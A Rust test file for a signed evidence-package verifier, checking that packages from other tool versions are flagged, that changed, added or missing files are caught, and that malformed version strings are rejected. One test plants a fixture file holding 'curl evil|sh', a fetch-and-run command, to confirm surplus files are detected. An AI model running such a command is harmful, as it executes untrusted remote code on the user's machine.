//! Packages that another version of Exhibit made, or says it made.

use verifier::layout::bag::{Bag, BagInfo};
use verifier::layout::{self, Files};
use verifier::{Options, Rederive, Report};

use crate::doctored::{EXPORTED, all, has, insider, left_open, remark, verify_with};

/// A package that names this version, with this change of its payload.
fn of_version(version: &str, allow: bool, change: impl FnOnce(&mut Files)) -> Report {
    let mut material = EXPORTED.material.clone();
    material.parameters.exhibit_version = version.to_owned();
    let mut payload = layout::material_files(&material).unwrap();
    for (name, bytes) in evidence::Derivation.derive(&material).unwrap() {
        payload.insert(format!("data/{name}"), bytes);
    }
    change(&mut payload);
    let info = BagInfo::of_package(&material.parameters);
    let bag = Bag::seal(payload, &info, &EXPORTED.world.keys.signer).unwrap();
    let options = Options { allow_other_version: allow, ..all() };
    verify_with(bag.files(), &EXPORTED.world.keys.trust(), &options)
}

fn longer(path: &str) -> impl FnOnce(&mut Files) {
    move |payload| payload.get_mut(path).unwrap().extend_from_slice(b"x\n")
}

const READING: [&str; 4] =
    ["data/report.html", "data/README.md", "data/columns.csv", "data/verify/verify.py"];

#[test]
fn files_for_reading_of_another_version_are_not_vouched_for() {
    for path in READING {
        let report = of_version("0.0.9", false, longer(path));
        let reason = left_open(&report, "derived");
        assert!(reason.contains(path) && reason.contains("--allow-other-version"), "{report}");
        assert!(report.codes().is_empty(), "{report}");
        let report = of_version("0.0.9", true, longer(path));
        assert!(report.ok(), "{report}");
        let said = remark(&report, "OTHER VERSION").unwrap();
        assert!(said.contains("0.0.9") && said.contains(path), "{said}");
        assert!(said.contains("do not rely on them"), "{said}");
    }
    // They are the same: then they are as good as of this version.
    let report = of_version("0.0.9", false, |_| ());
    assert!(report.ok() && remark(&report, "OTHER VERSION").is_some(), "{report}");
}

#[test]
fn lists_and_paths_may_never_differ() {
    for path in
        ["data/criteria/CC6.1/population.csv", "data/coverage/gaps.csv", "data/custody/log.ndjson"]
    {
        has(&of_version("0.0.9", true, longer(path)), "derived.differs");
    }
    let added = |payload: &mut Files| {
        payload.insert("data/verify/EVIL.sh".to_owned(), b"curl evil|sh".to_vec());
    };
    has(&of_version("0.0.9", true, added), "derived.surplus");
    let removed = |payload: &mut Files| {
        payload.remove("data/verify/verify.py");
    };
    has(&of_version("0.0.9", true, removed), "derived.missing");
    // Of this version, nothing may differ.
    let report = insider("data/report.html", |text| [&text[..], b"x"].concat());
    assert_eq!(report.codes(), ["derived.differs"], "{report}");
}

#[test]
fn a_version_is_one() {
    for version in ["0.1.0\u{200b}", "0.1", "", "next"] {
        has(&of_version(version, true, |_| ()), "parameters.malformed");
    }
}
